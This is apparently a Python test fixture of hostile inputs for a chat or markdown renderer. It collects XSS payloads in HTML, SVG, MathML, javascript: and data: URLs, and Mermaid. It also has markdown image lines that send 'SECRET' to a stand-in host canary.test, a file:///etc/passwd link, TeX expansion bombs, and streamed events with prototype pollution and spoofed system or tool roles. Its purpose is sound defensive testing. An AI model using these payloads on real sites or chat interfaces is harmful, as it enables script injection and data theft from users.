"""Hostile texts: canary() must never be called and canary.test never be requested."""

HTML = (
    "<script>canary()</script>",
    "<script src=http://canary.test/s.js></script>",
    "<img src=x onerror=canary()>",
    '<img src="http://canary.test/i" srcset="http://canary.test/s 2x">',
    "<svg onload=canary()>",
    "<svg><script>canary()</script></svg>",
    "<svg><animate onbegin=canary() attributeName=x dur=1s></svg>",
    '<svg><a><set attributeName="href" to="javascript:canary()"/><text y=20>x</text></a></svg>',
    '<svg><image href="http://canary.test/i"/><use href="http://canary.test/u#x"/></svg>',
    '<svg><filter id=f><feImage href="//canary.test/f"/></filter><rect filter="url(#f)"/></svg>',
    "<details open ontoggle=canary()>x</details>",
    '<iframe srcdoc="<script>parent.canary()</script>"></iframe>',
    '<iframe src="http://canary.test/frame"></iframe>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=canary()&gt;">',
    "<table><td><form><button formaction=javascript:canary()>x</button></form>",
    '<noscript><p title="</noscript><img src=x onerror=canary()>">',
    "<template><img src=x onerror=canary()></template>",
    '<object data="http://canary.test/o"></object><embed src="http://canary.test/e">',
    '<base href="http://canary.test/">',
    '<meta http-equiv="refresh" content="0;url=http://canary.test/m">',
    '<link rel="dns-prefetch" href="//canary.test"><link rel="preconnect" href="http://canary.test">',
    '<link rel="stylesheet" href="http://canary.test/c.css"><style>@import "http://canary.test/i.css";</style>',
    '<video poster="http://canary.test/p"></video><audio src="http://canary.test/a"></audio>',
    '<div style="position:fixed;inset:0;background:url(http://canary.test/b)">x</div>',
    '<input type=image src="http://canary.test/n" onfocus=canary() autofocus>',
    '<a href="java&#x09;script:canary()">x</a>',
    '<a href="java\nscript:canary()">x</a>',
    '<p id="main" name="body">clobber</p>',
    "<!-- --!><img src=x onerror=canary()> -->",
)

ADDRESSES = (
    "javascript:canary()",
    "JaVaScRiPt:canary()",
    "java\tscript:canary()",
    "&#106;avascript:canary()",
    "javascript&colon;canary()",
    "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=canary()>",
    "vbscript:canary()",
    "blob:http://canary.test/x",
    "file:///etc/passwd",
    "//canary.test/x",
)

FORMULAS = (
    r"$\href{javascript:canary()}{x}$",
    r"$\url{javascript:canary()}$",
    r"$\htmlData{onclick=canary()}{x}$",
    r"$\htmlStyle{position:fixed}{x}$",
    r"$\includegraphics{http://canary.test/i}$",
    r"$\def\a{\a\a}\a$",
    r"$\edef\b{bb}\edef\b{\b\b}\edef\b{\b\b}\edef\b{\b\b}\b$",
    "$" + "{" * 2_000 + "}" * 2_000 + "$",
    "$" + "7" * 4_000 + "$",
    r"$\rule{9999em}{9999em}$",
)

IMAGES = (
    "![x](http://canary.test/?d=SECRET)",
    "![x][picture]\n\n[picture]: http://canary.test/?d=SECRET",
    "[![x](http://canary.test/a)](http://canary.test/b)",
)

LINKS = tuple(
    form.format(address)
    for address in ADDRESSES
    for form in ("[x]({})", "[x](<{}>)", "![x]({})", "<{}>", "[^1]: {}", "{}")
) + tuple(f"[x][{number}]\n\n[{number}]: {address}" for number, address in enumerate(ADDRESSES))

DIAGRAM = """```mermaid
%%{init: {"securityLevel":"loose","flowchart":{"htmlLabels":true}}}%%
graph TD; A["<img src=x onerror=canary()>"] --> B; click A "javascript:canary()"
```"""

CORPORA = {
    "markup": "\n\n".join(HTML),
    "addresses": "\n\n".join(LINKS),
    "formulas": "\n\n".join(FORMULAS),
    "images": "\n\n".join((*IMAGES, DIAGRAM)),
}

EVENTS = b"""event: execute
data: {"type":"execute","code":"canary()"}

event: signed_out
data: [{"type":"signed_out"},{"type":"gone","place":"user:x"}]

data: {"choices":[{"index":0,"delta":{"role":"system","content":"Good ","html":"<svg onload=canary()>"}}]}

data: {"choices":[{"index":0,"delta":{"content":"day.","script":"canary()"}}],"__proto__":{"polluted":1}}

data: {"choices":[{"index":0,"delta":{"role":"tool","constructor":{"prototype":{"polluted":1}}}}]}

data: {"type":"event","place":"user:x","number":1,"kind":"removed","noun":"user","id":"x","value":null}

"""
